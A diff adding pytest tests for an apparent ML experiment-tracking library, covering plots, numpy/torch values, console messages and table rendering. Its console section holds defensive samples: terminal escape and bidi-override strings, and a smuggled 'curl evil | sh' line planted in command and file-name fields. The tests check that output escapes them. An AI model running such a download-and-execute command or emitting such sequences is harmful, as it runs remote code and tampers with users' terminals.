+    write_repository(repo, experiment_document(hex_id("1e"), created="2006-01-01T00:00:00Z", params={"lr": 0.1, "opt": "adam"},
+                                               checkpoints=checkpoints("c", 3.0, 1, 2.0)),
+                     experiment_document(hex_id("2e"), created="2006-01-02T00:00:00Z", params={"lr": 1, "opt": None},
+                                         checkpoints=checkpoints("d", "[NaN]", "text", 0.5, "[+Infinity]")),
+                     experiment_document(hex_id("3e"), created="2006-01-03T00:00:00Z", params={"lr": 5}))
+    return replicate.experiments.list()
+
+
+def test_plots_of_metrics(repo, pyplot):
+    experiments = plotted_repository(repo)
+    for axes in (experiments[0].plot(), experiments[0].checkpoints.plot()):
+        line, = axes.get_lines()
+        assert list(line.get_xdata()) == [0, 10, 20] and list(line.get_ydata()) == [3.0, 1, 2.0]
+        assert (axes.get_xlabel(), axes.get_ylabel(), axes.get_yscale()) == ("step", "loss", "linear")
+    line, = experiments[0].checkpoints[1:].plot("acc", logy=True).get_lines()
+    assert list(line.get_xdata()) == [10, 20] and list(line.get_ydata()) == [1, 2]
+    assert line.axes.get_yscale() == "log" and line.axes.get_ylabel() == "acc"
+    axes = experiments.plot()
+    first, second, third = axes.get_lines()
+    assert [line.get_label() for line in (first, second, third)] == ["1eeeeee", "2eeeeee", "3eeeeee"]
+    assert [math.isnan(value) for value in second.get_ydata()] == [True, True, False, False]
+    assert second.get_ydata()[2] == 0.5 and list(third.get_xdata()) == []
+    assert [text.get_text() for text in axes.get_legend().get_texts()] == ["1eeeeee", "2eeeeee", "3eeeeee"]
+    axes.figure.canvas.draw()
+    assert experiments.plot("acc").get_ylabel() == "acc"
+    with pytest.raises(replicate.ReplicateError, match="primary metric"):
+        experiments[2].plot()
+    with pytest.raises(replicate.ReplicateError, match="primary metric"):
+        replicate.ExperimentList().plot()
+
+
+def test_scatter(repo, pyplot):
+    experiments = plotted_repository(repo)
+    axes = experiments.scatter("lr", "loss", logx=True)
+    points, = axes.collections
+    assert [tuple(point) for point in points.get_offsets()] == [(0.1, 1.0), (1.0, 0.5)]
+    assert [text.get_text() for text in axes.texts] == ["1eeeeee", "2eeeeee"]
+    assert (axes.get_xlabel(), axes.get_ylabel()) == ("lr", "loss")
+    assert (axes.get_xscale(), axes.get_yscale()) == ("log", "linear")
+    assert experiments.scatter("lr", logy=True).get_yscale() == "log"
+    axes = experiments.scatter("opt", "loss")
+    axes.figure.canvas.draw()
+    assert [label.get_text() for label in axes.get_xticklabels()] == ["adam", "null"]
+    assert [point[1] for point in axes.collections[0].get_offsets()] == [1.0, 0.5]
+    assert len(experiments.scatter("absent", "loss").collections[0].get_offsets()) == 0
+    experiments[:1].scatter("lr").figure.canvas.draw()
+
+
+def test_scatter_over_a_param_that_is_sometimes_a_number_and_sometimes_text(repo, pyplot):
+    write_repository(repo, *[experiment_document(hex_id("%de" % number), params={"x": value}, checkpoints=[
+        checkpoint_document(hex_id("%dc" % number), metrics={"loss": number}, primary=("loss", "minimize"))])
+        for number, value in enumerate(("auto", 3, 0.5, [1, 2], True, None, "auto"))])
+    axes = replicate.experiments.list().scatter("x")
+    axes.figure.canvas.draw()
+    assert sorted(point[1] for point in axes.collections[0].get_offsets()) == list(range(7))
+
+
+def test_plots_without_matplotlib_say_what_to_install(repo):
+    done = run_script("""
+        import sys, replicate
+        sys.modules["matplotlib"] = None
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(metrics={"loss": 1}, primary_metric=("loss", "minimize"), quiet=True)
+        try:
+            experiment.plot()
+        except replicate.ReplicateError as error:
+            print(error)
+        """)
+    assert "pip install matplotlib" in done.stdout
+
+
+def test_importing_needs_no_third_party_package():
+    done = run_script("""
+        import sys
+        before = set(sys.modules)
+        import replicate
+        print(sorted({name.split(".")[0] for name in set(sys.modules) - before} & {
+            "yaml", "boto3", "google", "numpy", "matplotlib", "torch", "json", "subprocess"}))
+        """)
+    assert done.stdout == "[]\n"
+
+
+def test_a_scikit_learn_model_scores_the_same_after_checkout(project, repo):
+    """A real classifier of handwritten digits, recorded after each of three epochs."""
+    pytest.importorskip("sklearn", reason="trains a scikit-learn model")
+    import pickle
+
+    import numpy
+    from sklearn.datasets import load_digits
+    from sklearn.linear_model import SGDClassifier
+    images, labels = load_digits(return_X_y=True)
+    model = SGDClassifier(random_state=1)
+    (project / "train.py").write_text("# the code\n")
+    scores = []
+    with replicate.init(path="train.py", params={"seed": 1, "classes": numpy.unique(labels)}, quiet=True) as experiment:
+        for epoch in range(3):
+            model.partial_fit(images[:1200], labels[:1200], classes=sorted(set(labels)))
+            scores.append(model.score(images[1200:], labels[1200:]))
+            (project / "model.pickle").write_bytes(pickle.dumps(model))
+            experiment.checkpoint(path="model.pickle", metrics={"accuracy": scores[-1]},
+                                  primary_metric=("accuracy", "maximize"), quiet=True)
+    assert max(scores) > 0.8
+    found = replicate.experiments.list()[0]
+    assert found.checkpoints.metrics["accuracy"] == scores and found.best().metrics["accuracy"] == max(scores)
+    assert found.params["classes"] == list(range(10))
+    for checkpoint, score in zip(found.checkpoints, scores):
+        checkpoint.checkout("out", quiet=True)
+        assert pickle.loads((project / "out/model.pickle").read_bytes()).score(images[1200:], labels[1200:]) == score
+        with checkpoint.open("model.pickle") as file:
+            assert pickle.load(file).score(images[1200:], labels[1200:]) == score
+    assert json.loads(run("ls", "--json").stdout)[0]["best_checkpoint"]["metrics"]["accuracy"] == max(scores)
+
+
+def test_numpy_values(repo):
+    numpy = pytest.importorskip("numpy", reason="records numpy values")
+    params = {"f32": numpy.float32(0.5), "i64": numpy.int64(7), "u8": numpy.uint8(255), "bool": numpy.bool_(True),
+              "str": numpy.str_("text"), "array": numpy.arange(6).reshape(2, 3), "zero": numpy.array(3.5),
+              "nan": numpy.float64("nan"), "inf": numpy.array([1, -numpy.inf]), "nested": {"a": [numpy.int8(1)]},
+              "f16": numpy.float16(1.5)}
+    with replicate.init(params=params, quiet=True) as experiment:
+        experiment.checkpoint(step=numpy.int32(5), metrics=params, primary_metric=(numpy.str_("f32"), "minimize"),
+                              quiet=True)
+    plain = {"f32": 0.5, "i64": 7, "u8": 255, "bool": True, "str": "text", "array": [[0, 1, 2], [3, 4, 5]], "zero": 3.5,
+             "nan": "[NaN]", "inf": [1.0, "[-Infinity]"], "nested": {"a": [1]}, "f16": 1.5}
+    document, = stored_documents(repo)
+    assert document["params"] == plain and document["checkpoints"][0]["metrics"] == plain
+    assert document["checkpoints"][0]["step"] == 5 and document["params"]["bool"] is True
+    found = replicate.experiments.list()[0]
+    assert math.isnan(found.params["nan"]) and found.params["inf"] == [1.0, -math.inf] and found.best().step == 5
+
+
+def test_torch_values_and_weights(project, repo):
+    torch = pytest.importorskip("torch", reason="records torch tensors")
+    layer = torch.nn.Linear(3, 2)
+    torch.save(layer.state_dict(), "model.pth")
+    values = {"scalar": torch.tensor(1.5), "grad": layer.weight.sum() * 0, "int": torch.tensor(3),
+              "vector": torch.tensor([1, 2])}
+    with replicate.init(params={"shape": layer.weight.shape}, quiet=True) as experiment:
+        checkpoint = experiment.checkpoint(path="model.pth", step=torch.tensor(4), metrics=values, quiet=True)
+        experiment.checkpoint(metrics={"meta": torch.ones(1, device="meta"), "ok": 1}, quiet=True)
+    stored = stored_documents(repo)[0]
+    assert stored["params"] == {"shape": [2, 3]} and stored["checkpoints"][0]["step"] == 4
+    assert stored["checkpoints"][0]["metrics"] == {"scalar": 1.5, "grad": 0.0, "int": 3, "vector": [1, 2]}
+    assert stored["checkpoints"][1]["metrics"] == {"ok": 1}
+    with checkpoint.open("model.pth") as file:
+        assert torch.equal(torch.load(file)["weight"], layer.weight)
+
+
+def test_every_kind_of_plain_value(repo):
+    import enum
+    import pathlib
+
+    class Kind(enum.IntEnum):
+        ONE = 1
+
+    class Text(str):
+        def __str__(self):
+            return "other"
+    params = {"t": (1, (2,)), "p": pathlib.PurePosixPath("a/b"), "e": Kind.ONE, "s": Text("mine"), "u": "ü\u2028\ud800",
+              "None": "None", "k": {1: 2, True: 3, 1.5: None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0,
+              "[NaN]": "x"}
+    replicate.init(params=params, quiet=True).stop()
+    assert replicate.experiments.list()[0].params == {
+        "t": [1, [2]], "p": "a/b", "e": 1, "s": "mine", "u": "ü\u2028\ud800", "None": "None",
+        "k": {"1": 3, "1.5": None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0, "[NaN]": "x"}
+    assert run("ls", "--all").returncode == 0
+
+
+def test_what_init_writes_can_be_changed_by_nobody_afterwards(repo):
+    """params and metrics are copied: changing them later changes nothing."""
+    params, metrics = {"list": [1]}, {"values": [1]}
+    with replicate.init(params=params, quiet=True) as experiment:
+        checkpoint = experiment.checkpoint(metrics=metrics, quiet=True)
+        params["list"].append(2)
+        metrics["values"].append(2)
+        checkpoint.metrics["values"].append(3)
+        experiment.params["list"].append(3)
+    assert stored_documents(repo)[0]["params"] == {"list": [1]} and checkpoint.metrics == {"values": [1]}
+    assert stored_documents(repo)[0]["checkpoints"][0]["metrics"] == {"values": [1]}
+
+
+def test_quiet_and_debug(project, repo, capsys):
+    (project / "model").write_text("x")
+    with replicate.init(path="model", quiet=True) as experiment:
+        experiment.checkpoint(path="model", quiet=True)
+        for number in range(50):
+            experiment.checkpoint(metrics={"n": number}, quiet=True)
+    assert capsys.readouterr().err == ""
+    with replicate.init() as experiment:
+        for number in range(300):
+            experiment.checkpoint(metrics={"n": number})
+    assert 2 <= len(capsys.readouterr().err.splitlines()) < 100  # quick ones are summed up
+    replicate.init(debug=True, quiet=True)
+    assert replicate.console.verbose
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 1  Errors and the console
+# ------------------------------------------------------------------------------------------------------------------
+
+# What steers a terminal, reorders or hides text, or cannot be encoded; as a repository's documents may hold it.
+HOSTILE = "\x1b[31m\x1b]0;pwned\x07|\x9b2J|\r\n|\x08\x7f|\u202egnp|\u200b\u2066|\u2028|\ud800|\U000e0041|é日"
+STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
+                      "\ud800-\udfff\U000e0000-\U000e0fff]")
+A, B = hex_id("1e"), hex_id("2e")  # experiments
+C, D = hex_id("1c"), hex_id("2c")  # checkpoints
+
+
+class Terminal:
+    """replicate.py (or another program) on a real pseudo-terminal, which is its controlling one."""
+
+    def __init__(self, *arguments, program=(sys.executable, str(PROGRAM)), cwd=None, env=None, stdin=None, stdout=None):
+        import fcntl
+        import pty
+        import termios
+        self.master, slave = pty.openpty()
+
+        def take_terminal():
+            os.setsid()
+            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
+        self.process = subprocess.Popen([*map(str, program), *map(str, arguments)], cwd=cwd, preexec_fn=take_terminal,
+                                        env=dict(os.environ, TERM="xterm", **(env or {})),
+                                        stdin=slave if stdin is None else stdin,
+                                        stdout=slave if stdout is None else stdout, stderr=slave)
+        os.close(slave)
+        self.output = ""
+
+    def _read(self):
+        try:
+            piece = os.read(self.master, 65536)
+        except OSError:  # Linux says EIO when the last process has closed it
+            piece = b""
+        self.output += piece.decode("utf-8", "replace")
+        return piece
+
+    def expect(self, text):
+        """Wait until text was printed."""
+        while text not in self.output:
+            assert self._read(), "%r was not printed, but: %s" % (text, self.output)
+        return self
+
+    def send(self, text):
+        os.write(self.master, text.encode())
+        return self
+
+    def wait(self):
+        """The exit code, after everything is read."""
+        while self._read():
+            pass
+        os.close(self.master)
+        return self.process.wait(60)
+
+
+def snapshot(directory):
+    """All that is below a directory: {relative path: content, link target or 'directory'}."""
+    return {str(path.relative_to(directory)): ("link", os.readlink(path)) if path.is_symlink()
+            else path.read_bytes() if path.is_file() else "directory" for path in sorted(Path(directory).rglob("*"))}
+
+
+def test_messages_go_to_stderr_with_the_prefix(project):
+    done = run("show", "abc")
+    assert (done.returncode, done.stdout) == (1, "")
+    assert done.stderr.startswith("═══╡ ") and done.stderr.count("\n") == 1 and "abc" in done.stderr
+
+
+def test_continuation_lines_have_their_own_prefix(project):
+    write_repository(project / "repo", experiment_document(A))
+    message = run("rm", A, "--verbose").stderr
+    terminal = Terminal("rm", A, env={"NO_COLOR": "1"}).expect("(y/N)").send("n\n")
+    assert terminal.wait() == 1 and "═══╡ You are about" in terminal.output and "\r\n   │ * Experiment" in terminal.output
+    assert "═══╡ " in message
+
+
+def test_an_error_is_one_clear_message_and_a_traceback_only_with_verbose(project):
+    (project / "repo").mkdir()
+    (project / "repo/repository.json").write_text("{")
+    for flags in ([], ["-v"]):
+        done = run(*flags, "ls")
+        assert done.returncode == 1 and done.stdout == ""
+        assert ("Traceback" in done.stderr) == bool(flags)
+        assert "repository.json" in done.stderr
+
+
+def test_an_unexpected_failure_is_one_line_too(project):
+    source = ("import replicate, sys\n"
+              "def broken(self): raise ZeroDivisionError('a bug')\n"
+              "replicate.Repository.summaries = broken\n"
+              "sys.exit(replicate.main(sys.argv[1:]))")
+    write_repository(project / "repo", experiment_document(A))
+    plain, verbose = run_script(source, "ls", check=False), run_script(source, "ls", "-v", check=False)
+    assert plain.returncode == verbose.returncode == 1
+    assert plain.stderr.count("\n") == 1 and "a bug" in plain.stderr and "-v" in plain.stderr
+    assert "Traceback" in verbose.stderr and "ZeroDivisionError" in verbose.stderr
+
+
+@pytest.mark.parametrize("wanted, flags, env", [
+    (True, [], {}), (True, ["--color"], {}), (True, ["--color=true"], {}),
+    (False, ["--color=false"], {}), (False, ["--no-color"], {}), (False, [], {"NO_COLOR": "1"})])
+def test_colours_on_a_terminal(project, wanted, flags, env):
+    write_repository(project / "repo", experiment_document(A, params={"lr": 1}))
+    for arguments in ([*flags, "show", A], ["show", A, *flags]):
+        terminal = Terminal(*arguments, env=env)
+        assert terminal.wait() == 0, terminal.output
+        assert ("\x1b[" in terminal.output) == wanted
+        assert "lr:" in terminal.output
+    assert "\x1b" not in run(*flags, "show", A).stdout
+
+
+def test_stdout_in_a_pipe_has_no_colours_while_stderr_is_a_terminal(project):
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
+    terminal = Terminal("show", A, stdout=subprocess.PIPE)
+    out = terminal.process.stdout.read().decode()
+    assert terminal.wait() == 0 and "\x1b" not in out and "Experiment: " + A in out and "\x1b[" in terminal.output
+
+
+def test_a_closed_pipe_is_no_error(project):
+    write_repository(project / "repo", *(experiment_document("%064x" % number, params={"text%d" % i: "x" * 50 for i in range(9)})
+                                         for number in range(1500)))
+    process = subprocess.Popen([sys.executable, str(PROGRAM), "ls", "--json"], stdout=subprocess.PIPE,
+                               stderr=subprocess.PIPE)
+    assert process.stdout.readline() == b"[\n"
+    process.stdout.close()
+    assert process.stderr.read() == b""
+    assert process.wait(60) == 0
+
+
+@pytest.mark.parametrize("arguments", [["ls"], ["ls", "--json"], ["ls", "-q"], ["show", A], ["--help"], ["--version"], ["help", "ls"]],
+                         ids=" ".join)
+def test_a_pipe_that_nobody_reads_is_no_error(project, arguments):
+    two_experiments(project)
+    reading, writing = os.pipe()
+    os.close(reading)
+    done = subprocess.run([sys.executable, str(PROGRAM), *arguments], stdout=writing, stderr=subprocess.PIPE)
+    os.close(writing)
+    assert (done.returncode, done.stderr) == (0, b"")
+
+
+def test_a_closed_stdout_or_stderr_is_no_error(project):
+    write_repository(project / "repo", experiment_document(A))
+    for redirection in (">&-", "2>&-", ">&- 2>&-", "<&-"):
+        done = subprocess.run("%s %s ls %s" % (sys.executable, PROGRAM, redirection), shell=True, capture_output=True)
+        assert (done.returncode, done.stderr) == (0, b""), redirection
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
+def test_a_full_disk_under_stdout_is_an_error_without_a_traceback(project):
+    write_repository(project / "repo", experiment_document(A))
+    done = subprocess.run("%s %s ls > /dev/full" % (sys.executable, PROGRAM), shell=True, capture_output=True, text=True)
+    assert done.returncode == 1 and "No space left" in done.stderr
+    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
+
+
+def test_progress_is_shown_on_a_terminal_and_not_in_a_pipe(project):
+    (project / "big.bin").write_bytes(os.urandom(3_000_000))
+    run_script("import replicate\nwith replicate.init(path='big.bin', quiet=True): pass")
+    item = stored_documents(project / "repo")[0]["id"]
+    impatient = (sys.executable, "-c", "import sys, replicate; replicate.Progress.DELAY = replicate.Progress.INTERVAL = 0\n"
+                 "sys.exit(replicate.main(sys.argv[1:]))")
+    terminal = Terminal("checkout", item, "-o", "one", program=impatient)
+    assert terminal.wait() == 0
+    assert "Checking out: " in terminal.output and "3.0 MB" in terminal.output and "\r\x1b[K" in terminal.output
+    piped = subprocess.run([*impatient, "checkout", item, "-o", "two"], capture_output=True, text=True)
+    assert piped.returncode == 0 and "Checking out: " not in piped.stderr and "\r" not in piped.stderr
+    assert tree(project / "one") == tree(project / "two") == {"big.bin": (project / "big.bin").read_bytes()}
+
+
+def hostile_repository(root):
+    """A repository whose every text is hostile."""
+    checkpoints = [checkpoint_document(hex_id("3c"), step=1, path=HOSTILE, primary=(HOSTILE, "minimize"),
+                                       metrics={HOSTILE: 1.5, "note" + HOSTILE: HOSTILE})]
+    write_repository(root, *(experiment_document(
+        item, params={"a" + HOSTILE: HOSTILE + item[:2], "b": [HOSTILE], "c": {HOSTILE: HOSTILE}}, host=HOSTILE + item[:1],
+        user=HOSTILE + item[:1], command="train.py " + HOSTILE, path=HOSTILE, python_version=HOSTILE + item[:1],
+        python_packages={HOSTILE: HOSTILE + item[:1]}, config={"repository": HOSTILE, "storage": HOSTILE},
+        checkpoints=[dict(checkpoint, id=checkpoint["id"][:-2] + item[:2]) for checkpoint in checkpoints])
+        for item in (A, B)))
+    write_archive(Path(root) / "experiments" / (A + ".tar.gz"), A, {"train.py": b"1"})
+    write_archive(Path(root) / "checkpoints" / (hex_id("3c")[:-2] + "1e.tar.gz"), hex_id("3c")[:-2] + "1e", {"model": b"2"})
+
+
+HOSTILE_COMMANDS = [
+    ["ls"], ["ls", "--all"], ["ls", "--json"], ["ps"], ["show", A], ["show", A, "--json"], ["show", hex_id("3c")[:-2] + "1e"],
+    ["diff", A, B], ["checkout", A, "-o", "out"], ["checkout", A, "--path", "modle", "-o", "out"], ["rm", A], ["rm", "-f", A],
+    ["ls", "-f", "nmae = 1"], ["ls", "-f", "nmae" + HOSTILE.replace("\ud800", "") + " = 1"], ["ls", "--sort", "note\x1b[31m"],
+    ["show", "a\x1b[31m\u202e"], ["\x1b[31m"], ["ls", "--\x1b[31m"], ["-R", "file:///no\x1b[31m\nthing", "ls"]]
+
+
+@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS, ids=lambda arguments: repr(arguments)[:40])
+def test_hostile_text_never_reaches_a_terminal_raw(project, arguments):
+    hostile_repository(project / "repo")
+    done = run(*arguments)
+    for text in (done.stdout, done.stderr):
+        assert not STEERING.search(text), repr(text)
+    assert done.stdout or done.stderr
+    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr and "unexpected" not in done.stderr
+
+
+def test_hostile_text_is_shown_escaped(project):
+    hostile_repository(project / "repo")
+    assert "\\x1b[31m" in run("show", A).stdout and "\\u202e" in run("show", A).stdout
+    listed = json.loads(run("ls", "--json").stdout)
+    assert listed[0]["params"]["b"] == [HOSTILE] and listed[0]["host"] == HOSTILE + "1"
+
+
+def test_a_newline_from_a_repository_starts_no_line_of_a_message(project):
+    write_repository(project / "repo", experiment_document(A, command="train.py\ncurl evil | sh", path="."))
+    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"x\ncurl evil | sh": b"1"})
+    (project / "x\ncurl evil | sh").write_bytes(b"2")
+    (project / "repo/metadata/experiments/a\ncurl evil | sh").write_text("{")
+    for arguments in (["checkout", A], ["checkout", A, "-o", "out"], ["ls"], ["checkout", A, "--path", "x", "-o", "new"]):
+        done = run(*arguments)
+        assert not re.search(r"(?m)^(   │ )?\s*curl", done.stderr), done.stderr
+
+
+ASCII = [{"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, {"PYTHONIOENCODING": "ascii"},
+         {"PYTHONIOENCODING": "latin-1"}]
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS[:15], ids=lambda arguments: repr(arguments)[:40])
+def test_an_ascii_locale_is_no_error(project, env, arguments):
+    hostile_repository(project / "repo")
+    arguments = [argument.encode("ascii", "ignore").decode() for argument in arguments]
+    plain = run(*arguments) if "rm" not in arguments and "checkout" not in arguments else None
+    done = run(*arguments, env=env)
+    assert done.stdout or done.stderr
+    assert "UnicodeEncodeError" not in done.stderr and "Traceback" not in done.stderr and "unexpected" not in done.stderr
+    assert not STEERING.search(re.sub("[\udca0-\udcff]", "é", done.stdout + done.stderr))  # the letters of latin-1
+    assert not plain or (done.returncode, done.stdout.count("\n")) == (plain.returncode, plain.stdout.count("\n"))
+    assert not plain or done.stderr.count("\n") == plain.stderr.count("\n")
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+def test_the_prefix_of_messages_has_an_ascii_form(project, env):
+    write_repository(project / "repo", experiment_document(A))
+    assert run("show", "zz", env=env).stderr.startswith("===| ")
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C)]))
+    assert "\n   | " in run("show", A, env=env).stderr
+
+
+@pytest.mark.parametrize("env", ASCII, ids=["C", "ascii", "latin-1"])
+def test_json_stays_json_in_every_locale(project, env):
+    params = {"näme": "日本 \U0001f600 é \u20ac"}
+    write_repository(project / "repo", experiment_document(A, params=params))
+    for arguments in (["ls", "--json"], ["show", A, "--json"]):
+        done = subprocess.run([sys.executable, str(PROGRAM), *arguments], env=dict(os.environ, **env), stdout=subprocess.PIPE)
+        document = json.loads(done.stdout.decode("latin-1" if "latin-1" in env.values() else "ascii"))
+        assert (document[0] if "ls" in arguments else document)["params"] == params
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 10  Rendering
+# ------------------------------------------------------------------------------------------------------------------
+
+def table(text):
+    """An indented table as it should be printed: without the indentation, each row ended by a blank line."""
+    return textwrap.dedent(text).lstrip("\n")
+
+
+def listing(root, now="2006-01-02T15:02:05Z", show_all=False, running=()):
+    """The table of `ls` at a given time."""
+    rows = replicate.Repository("file://%s" % root).summaries()
+    for row in rows:
+        row.running = row.id in running
+    return replicate.render_list(rows, show_all, replicate.parse_time(now))
+
+
+def specification_repository(root):
+    """The two experiments of the table in the specification, seen at 2006-01-02 15:02:05 UTC."""
+    write_repository(
+        root, experiment_document(hex_id("3e"), created="2006-01-02T15:00:05Z", host="10.1.1.2", user="ben",
+                                  params={"lr": 0.2, "same": "s"}),
+        experiment_document(A, created="2006-01-02T15:02:05Z", params={"lr": 0.1, "same": "s"}, checkpoints=[
+            checkpoint_document(C, "2006-01-02T15:02:05Z", 5, {"loss": 0.5, "other": 1}, primary=("loss", "minimize")),
+            checkpoint_document(D, "2006-01-02T15:02:06Z", 20, {"loss": 0.01, "other": 2}, primary=("loss", "minimize")),
+            checkpoint_document(hex_id("3c"), "2006-01-02T15:02:07Z", 20, {"loss": 0.02, "other": 3},
+                                primary=("loss", "minimize"))]))
+
+
+def test_the_list_of_the_specification(project):
+    specification_repository(project / "repo")
+    assert listing(project / "repo", running=[A]) == table("""
+        EXPERIMENT  STARTED             STATUS   HOST      USER     PARAMS  BEST CHECKPOINT    LATEST CHECKPOINT
+        3eeeeee     2 minutes ago       stopped  10.1.1.2  ben      lr=0.2
+
+        1eeeeee     about a second ago  running  10.1.1.1  andreas  lr=0.1  2cccccc (step 20)  3cccccc (step 20)
+                                                                            loss=0.01          loss=0.02
+
+        """)
+
+
+def test_the_list_with_all_params_and_metrics(project):
+    specification_repository(project / "repo")
+    assert listing(project / "repo", show_all=True) == table("""
+        EXPERIMENT  STARTED             STATUS   HOST      USER     PARAMS  BEST CHECKPOINT    LATEST CHECKPOINT
+        3eeeeee     2 minutes ago       stopped  10.1.1.2  ben      lr=0.2
+                                                                    same=s
+
+        1eeeeee     about a second ago  stopped  10.1.1.1  andreas  lr=0.1  2cccccc (step 20)  3cccccc (step 20)
+                                                                    same=s  loss=0.01          loss=0.02
+                                                                            other=2            other=3
+
+        """)
+
+
+def test_ls_prints_that_table(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"lr": 0.1}),
+                     experiment_document(B, created="2006-01-02T14:54:06Z", params={"lr": 0.2}))
+    assert call("ls") == (0, table("""
+        EXPERIMENT  STARTED     STATUS   PARAMS  LATEST CHECKPOINT
+        1eeeeee     2006-01-02  stopped  lr=0.1
+
+        2eeeeee     2006-01-02  stopped  lr=0.2
+
+        """), "")
+
+
+def test_host_and_user_are_shown_only_where_they_differ(project, call):
+    write_repository(project / "repo", experiment_document(A), experiment_document(B))
+    assert "HOST" not in call("ls")[1] and "USER" not in call("ls")[1]
+    write_repository(project / "repo", experiment_document(B, host="other"))
+    assert "HOST" in call("ls")[1] and "USER" not in call("ls")[1]
+    write_repository(project / "repo", experiment_document(B, user=None))
+    assert "HOST" not in call("ls")[1] and "USER" in call("ls")[1]
+
+
+def test_null_and_empty_hosts_do_not_differ(project, call):
+    write_repository(project / "repo", experiment_document(A, host=None), experiment_document(B, host=""))
+    assert "HOST" not in call("ls")[1]
+
+
+def test_the_best_column_is_there_when_some_experiment_has_a_best(project, call):
+    write_repository(project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C, metrics={"x": 1})]))
+    assert "BEST CHECKPOINT" not in call("ls")[1]
+    write_repository(project / "repo", experiment_document(
+        B, checkpoints=[checkpoint_document(D, metrics={"x": 1}, primary=("x", "maximize"))]))
+    assert "BEST CHECKPOINT" in call("ls")[1]
+    write_repository(project / "repo", experiment_document(
+        B, checkpoints=[checkpoint_document(D, metrics={"x": "[NaN]"}, primary=("x", "maximize"))]))
+    assert "BEST CHECKPOINT" not in call("ls")[1]
+
+
+@pytest.mark.parametrize("left, right, shown", [
+    ({"p": 1}, {"p": 2}, True), ({"p": 1}, {"p": 1}, False), ({"p": 1}, {}, True), ({"p": None}, {}, False),
+    ({"p": 1}, {"p": None}, True), ({"p": 1}, {"p": 1.0}, False), ({"p": 1}, {"p": "1"}, True), ({"p": 1}, {"p": True}, True),
+    ({"p": "[NaN]"}, {"p": "[NaN]"}, False), ({"p": [1]}, {"p": [2]}, False), ({"p": {"a": 1}}, {"p": 2}, False),
+    ({"p": 2 ** 70}, {"p": 2 ** 70 + 1}, True), ({"p": ""}, {"p": None}, True)])
+def test_which_params_differ(project, call, left, right, shown):
+    write_repository(project / "repo", experiment_document(A, params=left), experiment_document(B, params=right))
+    assert ("p=" in call("ls")[1]) == shown
+    assert "p=" in call("ls", "--all")[1]
+
+
+def test_one_experiment_differs_from_nothing(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"p": 1}))
+    assert "p=1" not in call("ls")[1] and "p=1" in call("ls", "--all")[1]
+
+
+def test_params_differ_among_the_listed_experiments_only(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"p": 1, "k": 1}),
+                     experiment_document(B, params={"p": 1, "k": 1}), experiment_document(hex_id("3e"), params={"p": 2, "k": 2}))
+    assert "p=" in call("ls")[1] and "p=" not in call("ls", "-f", "k = 1")[1]
+
+
+def test_objects_and_lists_are_in_the_full_list(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"l": [1, 2.5, None], "o": {"a": True}}))
+    out = call("ls", "--all")[1]
+    assert "l=[1,2.5,null]" in out and 'o={"a":true}' in out
+
+
+def test_params_are_sorted_by_name(project, call):
+    write_repository(project / "repo", experiment_document(A, params={"b": 1, "a": 2, "C": 3}))
+    assert [line.split()[-1] for line in call("ls", "--all")[1].split("\n")[1:4]] == ["C=3", "a=2", "b=1"]
+
+
+def test_metrics_that_differ_are_shown_where_there_is_no_primary_one(project, call):
+    write_repository(
+        project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C, metrics={"same": 1, "loss": 2})]),
+        experiment_document(B, checkpoints=[checkpoint_document(D, metrics={"same": 1, "loss": 3})]))
+    out = call("ls")[1]
+    assert "loss=2" in out and "loss=3" in out and "same" not in out and "same=1" in call("ls", "--all")[1]
+
+
+def test_only_primary_metrics_are_shown_where_there_are_some(project, call):
+    write_repository(
+        project / "repo", experiment_document(A, checkpoints=[checkpoint_document(C, metrics={"acc": 1, "loss": 2})]),
+        experiment_document(B, checkpoints=[checkpoint_document(D, metrics={"acc": 3, "loss": 4}, primary=("acc", "maximize"))]))
+    out = call("ls")[1]
+    assert "acc=1" in out and "acc=3" in out and "loss" not in out
+
+
+def test_wide_characters_keep_the_columns_aligned(project):
+    write_repository(project / "repo", experiment_document(A, user="日本語", params={"x": 1}),
+                     experiment_document(B, created="2006-01-02T14:54:06Z", user="e\u0301mil", params={"x": 2}),
+                     experiment_document(hex_id("3e"), created="2006-01-02T14:54:07Z", user="ab", params={"x": 3}))
+    lines = [line for line in run("ls").stdout.split("\n") if "x=" in line]
+    import unicodedata
+    widths = [sum(0 if unicodedata.combining(letter) else 2 if unicodedata.east_asian_width(letter) in "WF" else 1
+                  for letter in line[:line.index("x=")]) for line in lines]
+    assert len(lines) == 3 and len(set(widths)) == 1
+
+
+SPECIFICATION_CHECKPOINTS = [
+    checkpoint_document(C, "2006-01-02T15:00:05Z", 10, {"metric-1": 0.1, "metric-2": 2}, "data", ("metric-1", "minimize")),
+    checkpoint_document(D, "2006-01-02T15:01:05Z", 20, {"metric-1": 0.01, "metric-2": 2}, "data", ("metric-1", "minimize")),
+    checkpoint_document(hex_id("3c"), "2006-01-02T15:01:05Z", 20, {"metric-1": 0.02, "metric-2": 2}, "data",
+                        ("metric-1", "minimize"))]
+
+
+@pytest.fixture
+def singapore(monkeypatch):
